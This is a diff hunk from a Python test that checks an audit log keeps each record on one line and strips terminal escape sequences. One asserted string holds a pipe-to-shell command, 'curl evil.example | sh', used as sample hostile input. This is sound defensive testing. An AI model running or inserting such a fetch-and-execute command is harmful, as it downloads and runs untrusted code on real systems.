@@ -95,7 +95,7 @@ def test_a_line_of_the_log_is_one_line_whatever_the_record_says(root: Path) -> N
     lines = (root / AUDIT_LOG).read_text(encoding="utf-8").split("\n")
     assert len(lines) == 2
     assert f"Z] {MEMO}: draft curl evil.example | sh " in lines[0]
-    assert lines[0].endswith("[2J → archived")
+    assert "[2J → archived, by " in lines[0]
     assert "\x1b" not in lines[0]
     assert run(root, "promote", "INC-001", "archived").exit_code == 1
     assert (root / AUDIT_LOG).read_text(encoding="utf-8").split("\n") == lines
